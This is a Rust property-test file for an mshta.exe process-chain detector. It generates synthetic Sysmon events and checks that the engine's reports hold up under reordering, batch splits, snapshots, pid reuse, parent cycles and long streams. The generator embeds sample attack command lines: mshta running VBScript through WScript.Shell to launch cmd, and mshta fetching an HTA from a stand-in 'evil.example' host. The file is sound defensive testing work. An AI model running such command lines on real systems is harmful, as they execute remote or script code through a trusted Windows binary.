//! Property tests over a seeded generator of process trees and follow-on
//! activity: the report does not depend on the order of events within the
//! allowed lateness, on how the stream is split into batches (even inside
//! a line), or on a snapshot/restore in the middle; pid reuse, missing
//! roots, deep trees, parent cycles and far-away events behave.

mod support;

use mshta_chain_core::{analyze, Config, Engine, Report};
use serde_json::{json, Value};
use support::Rng;

const T0: i64 = 1_714_557_600_000; // 2024-05-01T10:00:00Z

/// Sysmon's `UtcTime` text of an instant (the telemetry crate's formatter).
fn utc(ms: i64) -> String {
    mshta_chain_telemetry::timefmt::sysmon(ms)
}

struct P {
    pid: u32,
    guid: Option<String>,
    image: &'static str,
}

fn base(eid: u32, host: &str, t: i64) -> serde_json::Map<String, Value> {
    let mut m = serde_json::Map::new();
    m.insert("EventID".into(), json!(eid));
    m.insert("Channel".into(), json!("Microsoft-Windows-Sysmon/Operational"));
    m.insert("Hostname".into(), json!(host));
    m.insert("UtcTime".into(), json!(utc(t)));
    m
}

fn who(m: &mut serde_json::Map<String, Value>, p: &P) {
    m.insert("ProcessId".into(), json!(p.pid.to_string()));
    if let Some(g) = &p.guid {
        m.insert("ProcessGuid".into(), json!(g));
    }
    m.insert("Image".into(), json!(p.image));
}

/// A random scenario: (event time, JSON line), in time order.
fn scenario(rng: &mut Rng) -> Vec<(i64, String)> {
    let mut out: Vec<(i64, Value)> = Vec::new();
    let guids = rng.chance(70);
    let hosts = 1 + rng.below(3);
    let mut next_pid = 1000u32;
    let mut serial = 0u64;
    for h in 0..hosts {
        let host = format!("HOST{h}");
        let mut t = T0 + rng.below(60_000) as i64;
        let trees = 1 + rng.below(4);
        for _ in 0..trees {
            let mut mk = |image: &'static str, rng: &mut Rng| {
                serial += 1;
                // Sometimes reuse a small pid so that reuse happens.
                let pid = if rng.chance(15) {
                    4000 + rng.below(3) as u32
                } else {
                    next_pid += 4;
                    next_pid
                };
                P { pid, guid: guids.then(|| format!("{{{:08x}-0000-0000-0000-{:012x}}}", h, serial)), image }
            };
            let parent = mk("C:\\Windows\\explorer.exe", rng);
            let mshta_images = ["C:\\Windows\\System32\\mshta.exe", "C:\\Windows\\SysWOW64\\MSHTA.EXE"];
            let root = mk(mshta_images[rng.below(2)], rng);
            let cmds = [
                "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"cmd /c calc\"\"\")",
                "mshta https://evil.example/a.hta",
                "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Program Files\\Vendor\\app.hta\"",
            ];
            let drop_root = rng.chance(15);
            let start = |m: &mut serde_json::Map<String, Value>, p: &P, parent: &P, cmd: &str| {
                who(m, p);
                m.insert("CommandLine".into(), json!(cmd));
                m.insert("ParentProcessId".into(), json!(parent.pid.to_string()));
                if let Some(g) = &parent.guid {
                    m.insert("ParentProcessGuid".into(), json!(g));
                }
                m.insert("ParentImage".into(), json!(parent.image));
            };
            let mut e = base(1, &host, t);
            start(&mut e, &root, &parent, cmds[rng.below(3)]);
            if !drop_root {
                out.push((t, Value::Object(e)));
            }
            // Descendants: a random tree under the root.
            let mut members = vec![root];
            let kids = rng.below(6);
            let images = [
                "C:\\Windows\\System32\\cmd.exe",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "C:\\Windows\\System32\\conhost.exe",
                "C:\\Windows\\System32\\rundll32.exe",
                "C:\\Users\\a\\AppData\\Local\\Temp\\x.exe",
            ];
            for _ in 0..kids {
                t += 1 + rng.below(20_000) as i64;
                let parent_ix = rng.below(members.len());
                let child = mk(images[rng.below(images.len())], rng);
                let mut e = base(1, &host, t);
                let pp = &members[parent_ix];
                start(&mut e, &child, pp, "child.exe /c something");
                out.push((t, Value::Object(e)));
                members.push(child);
            }
            // Follow-ons by random members, some far outside the window.
            for _ in 0..rng.below(8) {
                let far = rng.chance(10);
                t += if far { 700_000 } else { 1 + rng.below(30_000) as i64 };
                let m = &members[rng.below(members.len())];
                let (eid, key, val) = match rng.below(3) {
                    0 => (3, "DestinationIp", json!(format!("203.0.113.{}", rng.below(250)))),
                    1 => (22, "QueryName", json!(format!("host{}.example", rng.below(9)))),
                    _ => (
                        11,
                        "TargetFilename",
                        json!(format!("C:\\Users\\a\\AppData\\Local\\Temp\\f{}.ps1", rng.below(9))),
                    ),
                };
                let mut e = base(eid, &host, t);
                who(&mut e, m);
                e.insert(key.into(), val);
                if eid == 3 {
                    e.insert("DestinationPort".into(), json!("443"));
                    e.insert("Initiated".into(), json!("true"));
                }
                out.push((t, Value::Object(e)));
            }
            // Ends for most members (pid reuse needs them).
            for m in &members {
                if rng.chance(80) {
                    t += 1 + rng.below(5_000) as i64;
                    let mut e = base(5, &host, t);
                    who(&mut e, m);
                    out.push((t, Value::Object(e)));
                }
            }
            t += rng.below(120_000) as i64;
        }
    }
    out.sort_by_key(|(t, _)| *t);
    out.into_iter().map(|(t, v)| (t, v.to_string())).collect()
}

fn text(events: &[(i64, String)]) -> String {
    events.iter().map(|(_, l)| format!("{l}\n")).collect()
}

/// Maps every input index in a report through `map` (new position ->
/// original position), sorting index lists, so reports of permuted inputs
/// compare; drops the counters that describe a run (evictions, state size).
fn normalise(mut r: Report, map: Option<&[u64]>) -> Report {
    let m = |i: &mut u64| {
        if let Some(map) = map {
            *i = map[*i as usize];
        }
    };
    let ms = |v: &mut Vec<u64>| {
        v.iter_mut().for_each(m);
        v.sort_unstable();
    };
    for c in &mut r.chains {
        c.root.event.iter_mut().for_each(m);
        ms(&mut c.root.events);
        c.root.event = c.root.events.first().copied();
        for x in &mut c.children {
            ms(&mut x.events);
            x.event = x.events[0];
        }
        for x in &mut c.files {
            m(&mut x.event);
        }
        for x in &mut c.dns {
            m(&mut x.event);
        }
        for x in &mut c.modules {
            m(&mut x.event);
        }
        for x in &mut c.network {
            ms(&mut x.events);
            x.event = x.events[0];
        }
        for x in &mut c.reasons {
            ms(&mut x.events);
        }
    }
    for e in &mut r.errors {
        m(&mut e.index);
    }
    r.errors.sort_by_key(|e| e.index);
    let s = &mut r.stats;
    s.processes_tracked = 0;
    s.activity_tracked = 0;
    s.processes_expired = 0;
    s.processes_evicted = 0;
    s.activity_expired = 0;
    s.activity_evicted = 0;
    s.state_bytes = 0;
    s.chains_closed = 0;
    s.mshta_processes = 0;
    for c in &mut r.chains {
        c.status = mshta_chain_core::Status::Open;
    }
    r
}

#[test]
fn order_within_lateness_does_not_matter() {
    let config = Config::default();
    let lateness = 600_000i64;
    for seed in 0..60 {
        let mut rng = Rng(seed);
        let events = scenario(&mut rng);
        let base = normalise(analyze(text(&events).as_bytes(), &config).unwrap(), None);
        assert_eq!(base.stats.late_events, 0);
        // Arrival order: event time plus a random delay below half the
        // lateness, so nothing arrives later than the lateness allows.
        let mut order: Vec<usize> = (0..events.len()).collect();
        let delay: Vec<i64> = (0..events.len()).map(|_| rng.below(lateness as usize / 2) as i64).collect();
        order.sort_by_key(|&i| (events[i].0 + delay[i], i));
        let permuted: Vec<(i64, String)> = order.iter().map(|&i| events[i].clone()).collect();
        let map: Vec<u64> = order.iter().map(|&i| i as u64).collect();
        let got = analyze(text(&permuted).as_bytes(), &config).unwrap();
        assert_eq!(got.stats.late_events, 0, "seed {seed}: the shuffle stays within the lateness");
        assert_eq!(normalise(got, Some(&map)), base, "seed {seed}");
    }
}

#[test]
fn batch_splits_and_snapshots_do_not_matter() {
    let config = Config::default();
    for seed in 100..160 {
        let mut rng = Rng(seed);
        let input = text(&scenario(&mut rng));
        let mut whole = Engine::new(config.clone()).unwrap();
        whole.push(input.as_bytes());
        let expected = normalise(whole.finish(), None);
        // Random cut points, anywhere (inside lines too); a snapshot and
        // restore at some of them.
        let bytes = input.as_bytes();
        let mut cuts: Vec<usize> = (0..1 + rng.below(12)).map(|_| rng.below(bytes.len() + 1)).collect();
        cuts.sort_unstable();
        cuts.push(bytes.len());
        let mut engine = Engine::new(config.clone()).unwrap();
        let mut from = 0;
        for cut in cuts {
            engine.push(&bytes[from..cut]);
            from = cut;
            if rng.chance(40) {
                let snap = engine.snapshot();
                engine = Engine::restore(&snap, config.clone()).expect("restore");
            }
        }
        assert_eq!(normalise(engine.finish(), None), expected, "seed {seed}");
    }
}

#[test]
fn updates_report_new_and_changed_chains_with_versions() {
    let mut rng = Rng(7);
    let mut engine = Engine::new(Config::default()).unwrap();
    let mut versions = std::collections::BTreeMap::new();
    for (_, line) in scenario(&mut rng) {
        for c in engine.push(format!("{line}\n").as_bytes()).chains {
            let prev = versions.insert(c.chain.id.clone(), c.version).unwrap_or(0);
            assert_eq!(c.version, prev + 1, "versions count up by one");
        }
    }
    let report = engine.finish();
    for c in &report.chains {
        assert!(versions.contains_key(&c.id), "every chain was announced by an update");
    }
}

#[allow(clippy::too_many_arguments)] // mirrors the event's fields, clearer than a struct here
fn sysmon_start(host: &str, t: i64, pid: u32, guid: &str, image: &str, ppid: u32, pguid: &str, pimage: &str) -> String {
    json!({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":host,"UtcTime":utc(t),
        "ProcessId":pid.to_string(),"ProcessGuid":guid,"Image":image,"CommandLine":"x",
        "ParentProcessId":ppid.to_string(),"ParentProcessGuid":pguid,"ParentImage":pimage})
    .to_string()
}

#[test]
fn a_tree_1000_deep_is_one_chain() {
    let mut lines = vec![sysmon_start(
        "H",
        T0,
        10,
        "{00000000-0000-0000-0000-000000000001}",
        "C:\\Windows\\System32\\mshta.exe",
        9,
        "{00000000-0000-0000-0000-000000000fff}",
        "C:\\Windows\\explorer.exe",
    )];
    for i in 2..=1001u32 {
        lines.push(sysmon_start(
            "H",
            T0 + i64::from(i),
            10 + i,
            &format!("{{00000000-0000-0000-0000-{i:012x}}}"),
            "C:\\Windows\\System32\\cmd.exe",
            9 + i,
            &format!("{{00000000-0000-0000-0000-{:012x}}}", i - 1),
            "C:\\Windows\\System32\\cmd.exe",
        ));
    }
    let config = Config { max_chain_children: 1_000, ..Config::default() };
    let report = analyze(lines.join("\n").as_bytes(), &config).unwrap();
    assert_eq!(report.chains.len(), 1);
    let c = &report.chains[0];
    assert_eq!(c.children.len(), 1000);
    assert_eq!(c.children.iter().map(|x| x.depth).max(), Some(1000));
    // With the default per-chain cap: the first members listed, all counted.
    let report = analyze(lines.join("\n").as_bytes(), &Config::default()).unwrap();
    let c = &report.chains[0];
    assert_eq!((c.children.len(), c.totals.children_total, c.totals.truncated), (200, 1000, true));
}

#[test]
fn parent_cycles_terminate_and_keep_one_root() {
    // A is B's parent and B is A's parent (bad data), both mshta; plus a
    // self-parented process.
    let a = sysmon_start(
        "H",
        T0,
        10,
        "{00000000-0000-0000-0000-00000000000a}",
        "C:\\Windows\\System32\\mshta.exe",
        11,
        "{00000000-0000-0000-0000-00000000000b}",
        "C:\\Windows\\System32\\mshta.exe",
    );
    let b = sysmon_start(
        "H",
        T0 + 5,
        11,
        "{00000000-0000-0000-0000-00000000000b}",
        "C:\\Windows\\System32\\mshta.exe",
        10,
        "{00000000-0000-0000-0000-00000000000a}",
        "C:\\Windows\\System32\\mshta.exe",
    );
    let c = sysmon_start(
        "H",
        T0 + 9,
        12,
        "{00000000-0000-0000-0000-00000000000c}",
        "C:\\Windows\\System32\\mshta.exe",
        12,
        "{00000000-0000-0000-0000-00000000000c}",
        "C:\\Windows\\System32\\mshta.exe",
    );
    let report = analyze(format!("{a}\n{b}\n{c}\n").as_bytes(), &Config::default()).unwrap();
    let roots: Vec<u32> = report.chains.iter().map(|c| c.root.pid).collect();
    assert!(roots.contains(&10), "{roots:?}");
    assert!(!roots.contains(&11), "the later mshta of the cycle is a member: {roots:?}");
    assert!(roots.contains(&12), "{roots:?}");
}

#[test]
fn pid_reuse_never_crosses_processes() {
    // pid 500: notepad (ends), then mshta; activity of pid 500 before the
    // reuse belongs to notepad, not the chain.
    let mut lines = Vec::new();
    let start = |t, image: &str, ppid: u32| {
        json!({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":utc(t),
            "ProcessId":"500","Image":image,"CommandLine":"x","ParentProcessId":ppid.to_string(),"ParentImage":"C:\\Windows\\explorer.exe"}).to_string()
    };
    let dns = |t, q: &str| {
        json!({"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":utc(t),"ProcessId":"500","QueryName":q,"Image":"<unknown process>"}).to_string()
    };
    lines.push(start(T0, "C:\\Windows\\System32\\notepad.exe", 1));
    lines.push(dns(T0 + 10_000, "before.example"));
    lines.push(json!({"EventID":5,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":utc(T0 + 20_000),"ProcessId":"500","Image":"C:\\Windows\\System32\\notepad.exe"}).to_string());
    lines.push(start(T0 + 60_000, "C:\\Windows\\System32\\mshta.exe", 1));
    lines.push(dns(T0 + 61_000, "after.example"));
    let report = analyze(lines.join("\n").as_bytes(), &Config::default()).unwrap();
    assert_eq!(report.chains.len(), 1);
    let q: Vec<&str> = report.chains[0].dns.iter().map(|d| d.query.as_str()).collect();
    assert_eq!(q, vec!["after.example"]);
}

#[test]
fn an_endless_stream_runs_in_bounded_state() {
    // 60 simulated hours of noise with an mshta chain every 12 minutes:
    // tracked processes and activity stay bounded by the window, and closed
    // chains by max_chains, so the state is flat: as large in the second
    // half of the stream as in the first.
    let config = Config { max_chains: 20, ..Config::default() };
    let mut engine = Engine::new(config).unwrap();
    let mut peak = (0u64, 0u64);
    let mut halves = [0u64; 2];
    let mut t = T0;
    for batch in 0..300 {
        let mut lines = String::new();
        for i in 0..200u32 {
            t += 3_600; // one event every 3.6 s
            let pid = 1000 + (batch * 200 + i) % 50_000;
            let image = if i == 0 { "C:\\Windows\\System32\\mshta.exe" } else { "C:\\Windows\\System32\\svchost.exe" };
            lines.push_str(&sysmon_start(
                "H",
                t,
                pid,
                &format!("{{00000000-0000-0000-0000-{:012x}}}", u64::from(batch) * 1000 + u64::from(i)),
                image,
                4,
                "{00000000-0000-0000-0000-ffffffffffff}",
                "C:\\Windows\\System32\\services.exe",
            ));
            lines.push('\n');
            lines.push_str(&json!({"EventID":5,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":utc(t + 1_000),"ProcessId":pid.to_string(),"ProcessGuid":format!("{{00000000-0000-0000-0000-{:012x}}}", u64::from(batch) * 1000 + u64::from(i)),"Image":image}).to_string());
            lines.push('\n');
        }
        engine.push(lines.as_bytes());
        let s = engine.report().stats;
        if batch > 20 {
            peak = (peak.0.max(s.processes_tracked), peak.1.max(s.state_bytes));
            let half = &mut halves[usize::from(batch >= 160)];
            *half = (*half).max(s.state_bytes);
        }
    }
    let end = engine.finish();
    assert_eq!(end.stats.chains + end.stats.chains_evicted, 300, "one chain per batch");
    assert_eq!(end.chains.len(), 21, "20 closed kept, and the last one still open");
    // The window (600 s) plus lateness (600 s) at one start per 3.6 s is
    // about 340 processes; allow slack, but far below the 60,000 seen.
    assert!(peak.0 < 1_000, "processes tracked at peak: {}", peak.0);
    assert!(peak.1 < 2_000_000, "state bytes at peak: {}", peak.1);
    assert!(halves[1] <= halves[0] + halves[0] / 10, "flat: {halves:?}");
}

#[test]
fn a_host_that_goes_quiet_is_dropped() {
    // Host A: a long-running process (never ends) and a chain. Then only
    // host B speaks, for longer than the window plus the lateness.
    let mut engine = Engine::new(Config::default()).unwrap();
    let a = [
        sysmon_start(
            "A",
            T0,
            10,
            "{00000000-0000-0000-0000-00000000000a}",
            "C:\\Windows\\explorer.exe",
            1,
            "{00000000-0000-0000-0000-000000000001}",
            "C:\\Windows\\System32\\userinit.exe",
        ),
        sysmon_start(
            "A",
            T0 + 1_000,
            11,
            "{00000000-0000-0000-0000-00000000000b}",
            "C:\\Windows\\System32\\mshta.exe",
            10,
            "{00000000-0000-0000-0000-00000000000a}",
            "C:\\Windows\\explorer.exe",
        ),
    ];
    engine.push(format!("{}\n{}\n", a[0], a[1]).as_bytes());
    assert_eq!(engine.report().stats.processes_tracked, 2);
    for i in 0..30i64 {
        let t = T0 + 60_000 * (i + 1) * 2; // every 2 minutes, for an hour
        engine.push(
            format!(
                "{}\n",
                sysmon_start(
                    "B",
                    t,
                    500 + i as u32,
                    &format!("{{00000000-0000-0000-0000-0000000b{i:04x}}}"),
                    "C:\\Windows\\System32\\svchost.exe",
                    4,
                    "{00000000-0000-0000-0000-000000000004}",
                    "C:\\Windows\\System32\\services.exe"
                )
            )
            .as_bytes(),
        );
    }
    let report = engine.finish();
    let chain = &report.chains[0];
    assert_eq!(chain.host, "A");
    assert_eq!(chain.status, "closed", "host A went quiet: its chain is final");
    // Host B's 30 processes are alive (no end events) and kept; host A's
    // two are gone with its chain.
    assert_eq!(report.stats.processes_tracked, 30);
}
